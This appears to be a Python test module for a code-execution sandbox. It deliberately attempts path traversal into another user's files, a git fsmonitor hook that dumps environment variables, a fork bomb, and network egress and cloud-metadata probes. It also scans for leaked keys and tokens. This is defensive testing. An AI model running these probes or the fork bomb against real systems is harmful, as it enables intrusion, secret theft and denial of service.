"""Failure modes of who may do what, brought about."""

import secrets

from workbench.failures.experiments.basics import (
    Experiment,
    Outcome,
    begun,
    done,
    first,
    kept,
    lied,
    running,
    same,
    told,
)
from workbench.failures.sides import CANARY, Naive, Side
from workbench.runs.project import Project


def _in_a_foreign_project(side: Side, project: Project) -> Outcome:
    """A project's id that leads into somebody else's directory."""
    other = Project.new()
    side.run(other, "open('secret.txt', 'w').write('of somebody else')")
    kept(side, other)
    ids = {
        "project": f"{project.user_id}/../{other.user_id}/{other.project_id}",
        "project_id": f"../{other.user_id}/{other.project_id}",
    }
    asked = side.request(project, "", None)
    body = {name: value for name, value in ids.items() if name in asked}
    return Outcome((side.run(project, "print(open('secret.txt').read())", body=body),))


_PLANTS = """
import subprocess
subprocess.run(['git', 'init', '-q'], check=True)
open('note.txt', 'w').write('kept')
open('trap.sh', 'w').write('#!/bin/sh\\nenv > mark.txt\\n')
subprocess.run(['chmod', '755', 'trap.sh'], check=True)
subprocess.run(['git', 'config', 'core.fsmonitor', './trap.sh'], check=True)
"""
_LOOKS = (
    "import subprocess\nprint(subprocess.run(['git', 'status', '--short'], capture_output=True, text=True).stdout)\n"
)


def _planted(side: Side, project: Project) -> Outcome:
    """A job plants a program in its repository's settings, and then the repository's status is asked for."""
    planted = side.run(project, _PLANTS)
    kept(side, project)
    seen = side.git_status(project, _LOOKS)
    kept(side, project)
    return Outcome(
        (planted, seen), {"mark": side.read(project, "mark.txt")}, {"the trap was set": planted.exit_code == 0}
    )


def _asked_by_another(side: Side, project: Project) -> Outcome:
    """A run's whole stream, asked for by another user who knows its id."""
    own = side.run(project, "print('of one user alone')")
    return Outcome(
        (own, side.of_another_user(own.run_id, Project.new())), fired={"the run's id was known": bool(own.run_id)}
    )


def _bomb_and_neighbour(side: Side, project: Project) -> Outcome:
    """A job that forks without end, and another project's job at the same time."""
    code = "import os\nprint('begun', flush=True)\nwhile True:\n    try: os.fork()\n    except OSError: pass\n"
    running = begun(side, project, code, timeout_s=6)
    neighbour = side.run(Project.new(), "import time\nfor n in range(10): print(n, flush=True); time.sleep(0.2)\n")
    bomb = running.result()
    return Outcome((neighbour, bomb), fired={"the bomb was lit": int("begun" in bomb.text)})


def _neighbour_is_well(seen: Outcome) -> str | None:
    other = seen.observations[0]
    return None if other.ended == "done" and other.took_s < 20 else f"the neighbour {other} after {other.took_s:.1f} s"


_WAYS_OUT = """
import socket, urllib.error, urllib.request

def way(name, take):
    try:
        print(name, 'is open:', take())
    except urllib.error.HTTPError as error:
        print(name, 'is open: answered', error.code)
    except OSError as error:
        print(name, 'is shut:', type(error).__name__)

def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(b'data of the job', ('192.0.2.1', 53))

way('a name', lambda: urllib.request.urlopen('http://data-of-the-job.invalid/', timeout=5).status)
way('tcp', lambda: socket.create_connection(('192.0.2.1', 443), timeout=3))
way('udp', udp)
way('metadata', lambda: urllib.request.urlopen('http://169.254.169.254/', timeout=3).status)
"""  # 192.0.2.0/24 and .invalid are nobody's


def _open_ways(seen: Outcome) -> str | None:
    ways = [line for line in seen.end.text.splitlines() if " is open" in line]
    return f"a job has a way out: {'; '.join(ways)}" if ways else None


def _secret_with_a_newline(side: Side, project: Project) -> Outcome:
    """The secret comes from a file whose last line ends. Where it is made by the deployment, it has no such file."""
    if isinstance(side, Naive):
        with side.twin() as twin:
            twin.secret = secrets.token_urlsafe(24)
            twin.deploy_with(f"{twin.secret}\n")
            return Outcome((twin.run(project, _HELLO),), fired={"it was deployed with the newline": 1})
    wrong = side.run(Project.new(), _HELLO, headers=side.showing(f"{side.secret}x"))
    return Outcome((wrong, side.run(project, _HELLO)))


def _only_the_right_one(seen: Outcome) -> str | None:
    wrong = seen.observations[0]
    return None if (wrong.ended, wrong.code) == ("refused", "unauthorized") else f"with a wrong secret it {wrong}"


def _without_a_secret(side: Side, project: Project) -> Outcome:
    """Nobody has set the secret, and a caller shows none."""
    with side.twin() as twin:
        twin.deploy_with("")
        return Outcome((twin.run(project, _HELLO),), fired={"it was deployed without a secret": 1})


def _rotated(side: Side, project: Project) -> Outcome:
    """The secret is changed; one caller has the new one already, another has it not yet."""
    with side.twin() as twin:
        twin.deploy(lambda line: None)
        before = twin.secret
        twin.rotate()
        late = twin.run(project, _HELLO, headers=twin.showing(before))
        return Outcome((late, twin.run(project, _HELLO)), fired={"the secret was changed": int(twin.secret != before)})


_HELLO = "print('hello')"


def _let_in(seen: Outcome) -> str | None:
    ill = next((one for one in seen.observations if one.text != "hello\n"), None)
    return None if ill is None else f"a caller that shows the right secret is turned away: it {ill}"


SECURITY: dict[str, Experiment] = {
    "egress": Experiment(
        act=running(_WAYS_OUT),
        harm=_open_ways,
        broken=first(done, _open_ways),
    ),
    "secret-wrong": Experiment(
        act=_secret_with_a_newline,
        harm=_let_in,
        broken=first(_only_the_right_one, same("hello\n")),
        twins=True,
    ),
    "secret-missing": Experiment(
        act=_without_a_secret,
        harm=lambda seen: "who shows no secret is let in" if seen.end.text else None,
        broken=lambda seen: None if seen.end.ended == "refused" else f"it {seen.end}",
        twins=True,
    ),
    "secret-rotated": Experiment(
        act=_rotated,
        harm=_let_in,
        broken=_let_in,
        twins=True,
    ),
    "path-traversal": Experiment(
        act=_in_a_foreign_project,
        harm=lambda seen: "it gave somebody else's file" if "of somebody else" in seen.end.text else None,
        broken=lambda seen: None if seen.end.ended == "refused" else f"it {seen.end}",
    ),
    "secret-probed-from-inside": Experiment(
        act=running("import os, json\nprint(json.dumps(dict(os.environ)))\n"),
        harm=lambda seen: "the model's key is in the job's environment" if CANARY in seen.end.text else None,
        broken=lambda seen: f"the environment holds {found}" if (found := _secret_words(seen.end.text)) else done(seen),
    ),
    "planted-config": Experiment(
        act=_planted,
        harm=lambda seen: (
            "the planted program ran, with the model's key in its environment"
            if CANARY in str(seen.facts["mark"])
            else None
        ),
        broken=first(done, lambda seen: "the planted program ran" if seen.facts["mark"] is not None else None),
    ),
    "another-tenants-run": Experiment(
        act=_asked_by_another,
        harm=lambda seen: f"another user reads {seen.end.text!r}" if seen.end.text else None,
        broken=lambda seen: None if (seen.end.ended, seen.end.code) == ("refused", "not_found") else f"it {seen.end}",
    ),
    "fork-bomb": Experiment(
        act=_bomb_and_neighbour,
        harm=lied("nothing says that its time was over"),
        broken=first(told("process_timeout", "sandbox_lost", "out_of_memory"), _neighbour_is_well),
    ),
}


def _secret_words(environment: str) -> str:
    return next((word for word in ("KEY", "SECRET", "TOKEN", "PASSWORD") if word in environment.upper()), "")
